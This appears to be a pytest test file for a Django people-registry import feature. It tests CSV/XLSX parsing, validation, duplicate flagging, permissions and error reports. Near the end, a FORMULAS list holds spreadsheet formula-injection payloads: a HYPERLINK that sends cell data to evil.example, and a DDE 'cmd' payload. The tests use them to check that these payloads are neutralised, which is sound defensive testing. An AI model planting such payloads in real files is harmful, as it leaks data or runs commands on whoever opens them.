"""Importing people from CSV and XLSX (`tamyr.registry.imports`, `tamyr import people`, the upload page)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import Client
from openpyxl import Workbook

from tamyr.accounts.models import User
from tamyr.core import processes
from tamyr.core.models import AuditEntry
from tamyr.registry import imports, selectors
from tamyr.registry.models import (
    Consent,
    DuplicateCandidate,
    ImportStatus,
    NameVariant,
    Organization,
    Person,
    PersonImport,
)
from tests.factories import PersonFactory, country

pytestmark = pytest.mark.django_db

GOOD = [
    ["ФИО", "E-mail", "Страна", "Год рождения", "Другие написания", "Город"],
    ["Тоқаев Қасым Кемелұлы", "kt@example.org", "TR", "1953", "Kassym Tokayev; Kasım Tokayev", "Istanbul"],
    ["Aigerim Sarsenbayeva", "", "Германия", "1990", "", "Berlin"],
    ["Nacsa Lőrinc", "", "Magyarország", "", "", ""],
]
BAD_ROWS = [
    ["Aidos Omarov", "not-an-address", "KZ", "1985", "", ""],  # line 5: e-mail
    ["", "", "KZ", "1985", "", ""],  # line 6: no name
    ["Dana Zhakupova", "", "Atlantis", "1850", "", ""],  # line 7: country and year
]


def write_csv(tmp_path: Path, rows: list[list[str]], name: str = "people.csv") -> Path:
    path = tmp_path / name
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def write_xlsx(tmp_path: Path, rows: list[list[Any]]) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    path = tmp_path / "people.xlsx"
    workbook.save(path)
    return path


def run(path: Path, organization: Organization, **options: Any) -> imports.ImportReport:
    return imports.import_people(path=path, organization=organization, acting_user=None, **options)


def test_a_good_file_imports_every_row_with_its_variants_and_an_import_consent(
    tmp_path: Path, organization: Organization
) -> None:
    report = run(write_csv(tmp_path, GOOD), organization)
    assert (report.imported, report.bad_row_count, report.refused) == (3, 0, False)
    tokayev = Person.objects.get(display_name="Тоқаев Қасым Кемелұлы")
    assert (tokayev.email, tokayev.residence_country_id, tokayev.birth_year, tokayev.residence_city) == (
        "kt@example.org",
        "TR",
        1953,
        "Istanbul",
    )
    assert tokayev.registered_by == organization
    assert set(tokayev.name_variants.values_list("text", flat=True)) == {
        "Тоқаев Қасым Кемелұлы",
        "Kassym Tokayev",
        "Kasım Tokayev",
    }
    consent = Consent.objects.get(person=tokayev)
    assert (consent.purpose, consent.method) == ("registry", "import")
    assert Person.objects.get(display_name="Aigerim Sarsenbayeva").residence_country_id == "DE"  # a Russian name


def test_imported_people_are_found_by_search_in_another_script(tmp_path: Path, organization: Organization) -> None:
    run(write_csv(tmp_path, GOOD), organization)
    found = selectors.person_search(Person.objects.prefetch_related("name_variants"), "Касым Токаев")
    assert [person.display_name for person in found][:1] == ["Тоқаев Қасым Кемелұлы"]


def test_a_bad_row_writes_no_row_and_every_bad_row_is_reported(tmp_path: Path, organization: Organization) -> None:
    report = run(write_csv(tmp_path, GOOD + BAD_ROWS), organization)
    assert report.refused and report.imported == 0
    assert Person.objects.count() == NameVariant.objects.count() == Consent.objects.count() == 0
    reported = {(row.line, row.column) for row in report.bad_rows}
    assert reported == {(5, "E-mail"), (6, "ФИО"), (7, "Страна"), (7, "Год рождения")}
    assert report.bad_row_count == 3
    reasons = {row.line: row.reason for row in report.bad_rows if row.column != "Год рождения"}
    assert "e-mail" in reasons[5] and "name" in reasons[6] and "country" in reasons[7]


def test_the_report_file_lists_every_bad_row(tmp_path: Path, organization: Organization) -> None:
    report = run(write_csv(tmp_path, GOOD + BAD_ROWS), organization)
    assert report.report_path is not None
    lines = list(csv.reader(report.report_path.open(encoding="utf-8")))
    assert [row[1] for row in lines[1:]] == ["5", "6", "7", "7"]


def test_skip_bad_rows_imports_the_good_ones(tmp_path: Path, organization: Organization) -> None:
    report = run(write_csv(tmp_path, GOOD + BAD_ROWS), organization, skip_bad_rows=True)
    assert (report.imported, report.bad_row_count, report.refused) == (3, 3, False)
    assert Person.objects.count() == 3


def test_a_dry_run_writes_nothing(tmp_path: Path, organization: Organization) -> None:
    report = run(write_csv(tmp_path, GOOD), organization, dry_run=True)
    assert (report.good_rows, report.imported) == (3, 0)
    assert Person.objects.count() == 0


def test_xlsx_works(tmp_path: Path, organization: Organization) -> None:
    rows: list[list[Any]] = [
        ["Аты-жөні", "Туған жылы", "Ел"],
        ["Жұлдыз Серікова", 1994, "kz"],
        ["Arman Omarov", None, ""],
    ]
    report = run(write_xlsx(tmp_path, rows), organization)
    assert report.imported == 2
    assert Person.objects.get(display_name="Жұлдыз Серікова").birth_year == 1994


def test_headers_are_recognised_in_several_languages() -> None:
    assert imports.detect_mapping(["Ad Soyad", "E-posta", "Ülke", "Doğum yılı"]) == {
        "name": "Ad Soyad",
        "email": "E-posta",
        "country": "Ülke",
        "birth_year": "Doğum yılı",
    }
    assert imports.detect_mapping(["Név", "Telefonszám", "Város"]) == {
        "name": "Név",
        "phone": "Telefonszám",
        "city": "Város",
    }


def test_an_explicit_mapping_wins(tmp_path: Path, organization: Organization) -> None:
    path = write_csv(tmp_path, [["Column A", "Column B"], ["Aidos Omarov", "1985"]])
    report = run(path, organization, mapping={"name": "Column A", "birth_year": "Column B"})
    assert report.imported == 1 and Person.objects.get().birth_year == 1985


def test_a_file_without_a_name_column_is_refused(tmp_path: Path, organization: Organization) -> None:
    from tamyr.core.errors import DomainError

    with pytest.raises(DomainError):
        run(write_csv(tmp_path, [["E-mail"], ["a@example.org"]]), organization)


def test_possible_duplicates_of_registered_people_are_flagged_and_queued(
    tmp_path: Path, organization: Organization
) -> None:
    existing = PersonFactory(display_name="Kassym Tokayev", birth_year=1953, residence_country=country("TR"))
    report = run(write_csv(tmp_path, GOOD), organization)
    assert [(item.line, item.person_id) for item in report.flagged] == [(2, existing.pk)]
    new = Person.objects.get(display_name="Тоқаев Қасым Кемелұлы")
    pair = DuplicateCandidate.objects.get()
    assert {pair.person_a_id, pair.person_b_id} == {existing.pk, new.pk}


def test_a_dry_run_flags_duplicates_too(tmp_path: Path, organization: Organization) -> None:
    PersonFactory(display_name="Kassym Tokayev", birth_year=1953, residence_country=country("TR"))
    report = run(write_csv(tmp_path, GOOD), organization, dry_run=True)
    assert report.flagged_count == 1 and DuplicateCandidate.objects.count() == 0


def test_the_import_is_audited(tmp_path: Path, organization: Organization) -> None:
    run(write_csv(tmp_path, GOOD), organization)
    entry = AuditEntry.objects.get(action="registry.people_imported")
    assert entry.data["people"] == 3 and entry.target_id == str(organization.pk)


def test_a_big_file_is_read_in_chunks(tmp_path: Path, organization: Organization, monkeypatch: Any) -> None:
    monkeypatch.setattr(imports, "CHUNK", 7)
    rows = [["name", "year"]] + [[f"Person{chr(97 + i % 26)}{chr(97 + i // 26)} Family", "1980"] for i in range(40)]
    seen: list[int] = []
    report = run(write_csv(tmp_path, rows), organization, progress=lambda stage, done, total: seen.append(done))
    assert report.imported == 40
    assert seen[:6] == [7, 14, 21, 28, 35, 40]


def test_a_big_file_is_checked_in_worker_processes_with_the_same_result(
    tmp_path: Path, organization: Organization, monkeypatch: Any
) -> None:
    monkeypatch.setattr(imports, "PARALLEL_ROWS", 1)
    monkeypatch.setattr(imports, "CHUNK", 2)
    monkeypatch.setattr(imports, "WORKERS", 2)
    monkeypatch.setattr(imports.os, "cpu_count", lambda: 2)
    contexts: list[str] = []
    get_context = processes.multiprocessing.get_context
    monkeypatch.setattr(
        processes.multiprocessing, "get_context", lambda method: contexts.append(method) or get_context(method)
    )
    report = run(write_csv(tmp_path, GOOD + BAD_ROWS), organization, skip_bad_rows=True)
    assert contexts == ["spawn"]
    assert (report.imported, report.bad_row_count) == (3, 3)
    assert sorted(Person.objects.values_list("display_name", flat=True)) == [
        "Aigerim Sarsenbayeva",
        "Nacsa Lőrinc",
        "Тоқаев Қасым Кемелұлы",
    ]
    assert {(row.line, row.column) for row in report.bad_rows} == {
        (5, "E-mail"),
        (6, "ФИО"),
        (7, "Страна"),
        (7, "Год рождения"),
    }


# --- the command --------------------------------------------------------------------------------------------


def test_the_command_imports(tmp_path: Path, organization: Organization) -> None:
    out = io.StringIO()
    call_command("import", "people", str(write_csv(tmp_path, GOOD)), "--organization", organization.slug, stdout=out)
    assert "Imported 3 people" in out.getvalue()
    assert Person.objects.count() == 3


def test_the_command_refuses_a_file_with_bad_rows_and_lists_them(tmp_path: Path, organization: Organization) -> None:
    out = io.StringIO()
    with pytest.raises(CommandError, match="3 bad row"):
        call_command(
            "import",
            "people",
            str(write_csv(tmp_path, GOOD + BAD_ROWS)),
            "--organization",
            organization.slug,
            stdout=out,
        )
    assert "line 7, column 'Страна'" in out.getvalue()
    assert Person.objects.count() == 0


def test_the_command_dry_run_and_skip_bad_rows(tmp_path: Path, organization: Organization) -> None:
    path = str(write_csv(tmp_path, GOOD + BAD_ROWS))
    call_command(
        "import",
        "people",
        path,
        "--organization",
        organization.slug,
        "--dry-run",
        "--skip-bad-rows",
        stdout=io.StringIO(),
    )
    assert Person.objects.count() == 0
    call_command("import", "people", path, "--organization", organization.slug, "--skip-bad-rows", stdout=io.StringIO())
    assert Person.objects.count() == 3


# --- the upload page ----------------------------------------------------------------------------------------


@pytest.fixture
def staff_client(client: Client, org_staff: User) -> Client:
    client.force_login(org_staff)
    return client


def upload(client: Client, organization: Organization, rows: list[list[str]], **options: Any) -> Any:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    file = SimpleUploadedFile("people.csv", buffer.getvalue().encode(), content_type="text/csv")
    return client.post("/people/import/", {"file": file, "organization": organization.pk, **options})


def test_the_page_uploads_maps_and_imports(
    staff_client: Client, organization: Organization, django_capture_on_commit_callbacks: Any
) -> None:
    response = upload(staff_client, organization, [["Column A", "Год рождения"], ["Aidos Omarov", "1985"]])
    record = PersonImport.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/people/import/{record.pk}/"
    form = staff_client.get(f"/people/import/{record.pk}/").context["form"]
    assert form["birth_year"].initial == "Год рождения" and not form["name"].initial  # detected; name is not
    with django_capture_on_commit_callbacks(execute=True):
        response = staff_client.post(f"/people/import/{record.pk}/", {"name": "Column A", "birth_year": "Год рождения"})
    assert response.status_code == 302
    record.refresh_from_db()
    assert (record.status, record.imported_rows, record.processed_rows) == (ImportStatus.DONE, 1, 1)
    assert Person.objects.get().birth_year == 1985
    progress = staff_client.get(f"/people/import/{record.pk}/progress/").content.decode()
    assert "hx-trigger" not in progress  # finished: the page stops polling


def test_the_page_shows_every_bad_row(
    staff_client: Client, organization: Organization, django_capture_on_commit_callbacks: Any
) -> None:
    upload(staff_client, organization, GOOD + BAD_ROWS)
    record = PersonImport.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        staff_client.post(f"/people/import/{record.pk}/", dict(record.mapping))
    record.refresh_from_db()
    assert record.status == ImportStatus.REFUSED and Person.objects.count() == 0
    page = staff_client.get(f"/people/import/{record.pk}/").content.decode()
    assert "Unknown country" in page and "Atlantis" in page
    report = staff_client.get(f"/people/import/{record.pk}/report/")
    assert b"Atlantis" in b"".join(report.streaming_content)  # type: ignore[attr-defined]


def test_the_page_polls_while_the_import_runs(staff_client: Client, organization: Organization) -> None:
    upload(staff_client, organization, GOOD)
    record = PersonImport.objects.get()
    PersonImport.objects.filter(pk=record.pk).update(started_at=record.created_at, status=ImportStatus.RUNNING)
    page = staff_client.get(f"/people/import/{record.pk}/").content.decode()
    assert 'hx-trigger="every 2s"' in page


def test_a_compatriot_gets_403_on_the_import_pages(
    client: Client, compatriot: User, organization: Organization
) -> None:
    client.force_login(compatriot)
    assert client.get("/people/import/").status_code == 403
    record = PersonImport.objects.create(organization=organization, file="imports/x.csv")
    assert client.get(f"/people/import/{record.pk}/").status_code == 403


def test_staff_cannot_import_for_another_organization(staff_client: Client, organization: Organization) -> None:
    from tests.factories import OrganizationFactory

    other = OrganizationFactory(slug="not-mine")
    response = upload(staff_client, other, GOOD)
    assert response.status_code == 200 and PersonImport.objects.count() == 0  # not among the form's choices


@pytest.mark.django_db(transaction=True, serialized_rollback=True)  # as tests/events/test_concurrency.py says why
def test_on_postgres_a_big_import_refreshes_the_planner_statistics(tmp_path: Path, monkeypatch: Any) -> None:
    from django.db import connection

    if connection.vendor != "postgresql":
        pytest.skip("ANALYZE is PostgreSQL's")
    from tests.factories import OrganizationFactory

    monkeypatch.setattr(imports, "ANALYZE_AFTER", 1)
    run(write_csv(tmp_path, GOOD), OrganizationFactory())
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT relname FROM pg_stat_user_tables WHERE last_analyze IS NOT NULL AND relname IN "
            "('registry_person', 'registry_namevariant', 'registry_nameword')"
        )
        analyzed = {row[0] for row in cursor.fetchall()}
    assert analyzed == {"registry_person", "registry_namevariant", "registry_nameword"}


@pytest.mark.parametrize("row_triggers", ["skip", "keep"])
def test_on_postgres_both_ways_of_writing_give_the_same_people_and_vocabulary(
    tmp_path: Path, organization: Organization, monkeypatch: Any, row_triggers: str
) -> None:
    """Skipping the per-row triggers (a role that may) and keeping them (one that may not) write the same rows,
    consents and name vocabulary."""
    from django.db import connection

    from tamyr.registry.models import NameWord

    if connection.vendor != "postgresql":
        pytest.skip("COPY and row triggers are PostgreSQL's")
    monkeypatch.setattr(imports, "SKIP_ROW_TRIGGERS", row_triggers == "skip")
    report = run(write_csv(tmp_path, GOOD), organization)
    assert report.imported == 3
    tokayev = Person.objects.get(display_name="Тоқаев Қасым Кемелұлы")
    assert (tokayev.residence_country_id, tokayev.registered_by_id) == ("TR", organization.pk)
    assert tokayev.name_variants.count() == 3
    assert tokayev.consents.count() == 1
    assert NameWord.objects.filter(word__in=["tokaev", "kasim"]).count() == 2


# --- rows the database would refuse, and broken CSV ---------------------------------------------------------

EDGE_HEADER = ["Name", "E-mail", "City"]


def write_text(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "edge.csv"
    path.write_text(text, encoding="utf-8", newline="")
    return path


def edge_file(tmp_path: Path, bad: list[str]) -> Path:
    """A good row, the bad one(s) from line 3, a good row after them."""
    rows = [",".join(EDGE_HEADER), "Aidos Omarov,aidos@example.org,Almaty", *bad, "Dana Zhakupova,,Astana"]
    return write_text(tmp_path, "\r\n".join(rows) + "\r\n")


@pytest.mark.parametrize(
    ("bad", "column", "reason"),
    [
        (f"Long Mail,{'a' * 250}@example.org,Almaty", "E-mail", "at most 254 characters"),
        ("Nul\x00Byte,,Almaty", "Name", "U+0000"),
        ("Bell,,Alm\x07aty", "City", "U+0007"),
        ('"Two\nLines",,Almaty', "Name", "several lines"),
        (f"{'x' * 140_000},,Almaty", "Name", "at most 200 characters"),
    ],
    ids=["long-email", "nul", "control", "line-break", "cell-over-131072"],
)
def test_a_row_the_database_would_refuse_is_that_rows_error_and_writes_nothing(
    tmp_path: Path, organization: Organization, bad: str, column: str, reason: str
) -> None:
    report = run(edge_file(tmp_path, [bad]), organization)
    assert report.refused and Person.objects.count() == 0
    assert [(row.line, row.column) for row in report.bad_rows] == [(3, column)]
    assert reason in report.bad_rows[0].reason
    assert "\x00" not in report.bad_rows[0].value and len(report.bad_rows[0].value) <= imports.SHOWN_VALUE


def test_with_skip_bad_rows_such_rows_are_skipped_and_the_good_ones_written(
    tmp_path: Path, organization: Organization
) -> None:
    """On PostgreSQL a NUL byte or a 260-character e-mail that reached the database failed the whole import."""
    bad = [f"Long Mail,{'a' * 250}@example.org,Almaty", "Nul\x00Byte,,Almaty", f"{'x' * 140_000},,Almaty"]
    report = run(edge_file(tmp_path, bad), organization, skip_bad_rows=True)
    assert (report.imported, report.bad_row_count) == (2, 3)
    assert sorted(Person.objects.values_list("display_name", flat=True)) == ["Aidos Omarov", "Dana Zhakupova"]


def test_a_cell_longer_than_the_reader_takes_is_reported_at_its_line_and_reading_goes_on(
    tmp_path: Path, organization: Organization
) -> None:
    huge = "y" * (imports.FIELD_LIMIT + 10)
    report = run(edge_file(tmp_path, [f"Huge,,{huge}", "Next Row,not-an-address,Almaty"]), organization)
    assert report.refused and Person.objects.count() == 0
    assert [(row.line, row.reason[:25]) for row in report.bad_rows] == [
        (3, "A cell of this row is lon"),
        (4, "This is not an e-mail add"),
    ]


def test_an_unclosed_quote_is_reported_where_it_starts_not_as_a_long_name(
    tmp_path: Path, organization: Organization
) -> None:
    report = run(edge_file(tmp_path, ['"Kovács Ödön,,Győr', "Szabó Anna,,Pécs"]), organization)
    assert report.refused and Person.objects.count() == 0
    assert [row.line for row in report.bad_rows] == [3]
    assert report.bad_rows[0].reason.startswith("Unclosed quote starting at line 3")


def test_a_quote_closed_rows_later_is_reported_where_it_opens(tmp_path: Path, organization: Organization) -> None:
    """The opening quote of line 3 pairs with a quote of line 5: lines 3 to 5 would be one cell of a name."""
    lines = ['"Kovács Ödön,,Győr', "Szabó Anna,,Pécs", 'Nagy Éva,"eva@example.org",Eger', "Last One,,Eger"]
    report = run(edge_file(tmp_path, lines), organization)
    assert report.refused and Person.objects.count() == 0
    assert report.bad_rows[0].line == 3 and "Unclosed quote starting at line 3" in report.bad_rows[0].reason
    assert "200" not in report.bad_rows[0].reason


def test_a_note_over_several_lines_in_a_column_not_imported_is_fine(tmp_path: Path, organization: Organization) -> None:
    text = 'Name,Note\r\nAidos Omarov,"first line\r\nsecond line"\r\nDana Zhakupova,\r\n'
    report = run(write_text(tmp_path, text), organization)
    assert (report.imported, report.bad_row_count) == (2, 0)


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(1)"]


def test_the_error_report_neutralises_formulas_like_the_exports(tmp_path: Path, organization: Organization) -> None:
    from tamyr.core.exports import safe_cell

    rows = [["Name", "E-mail", "Country"], *[["Aidos Omarov", formula, ""] for formula in FORMULAS[:2]]]
    rows += [["Dana Zhakupova", "", formula] for formula in FORMULAS[2:]]
    report = run(write_csv(tmp_path, rows), organization)
    assert report.report_path is not None and report.bad_row_count == 4
    lines = list(csv.reader(report.report_path.open(encoding="utf-8")))[1:]
    assert [line[3] for line in lines] == ["'" + formula for formula in FORMULAS]
    assert [line[2] for line in csv.reader(io.StringIO(imports.report_csv(report)))][1:] == [
        safe_cell(formula) for formula in FORMULAS
    ]
    assert [row.as_dict()["value"] for row in report.bad_rows] == ["'" + formula for formula in FORMULAS]


def test_the_page_keeps_and_shows_rows_with_a_nul_byte_and_neutralised_formulas(
    staff_client: Client, organization: Organization, django_capture_on_commit_callbacks: Any
) -> None:
    upload(staff_client, organization, [["Name", "E-mail"], ["Nul\x00Byte", ""], ["Aidos", FORMULAS[1]]])
    record = PersonImport.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        staff_client.post(
            f"/people/import/{record.pk}/", {**record.mapping, "encoding": "utf-8", "shown_encoding": "utf-8"}
        )
    record.refresh_from_db()
    assert (record.status, record.bad_row_count) == (ImportStatus.REFUSED, 2)
    assert [row["value"] for row in record.bad_rows] == ["Nul\\x00Byte", "'" + FORMULAS[1]]
    report = b"".join(staff_client.get(f"/people/import/{record.pk}/report/").streaming_content)  # type: ignore[attr-defined]
    assert b"'=cmd|" in report and b",=cmd|" not in report


def test_the_report_file_has_the_byte_order_mark_spreadsheets_need_for_utf8(
    tmp_path: Path, organization: Organization
) -> None:
    report = run(write_csv(tmp_path, GOOD + BAD_ROWS), organization)
    assert report.report_path is not None and report.report_path.read_bytes().startswith(b"\xef\xbb\xbf")
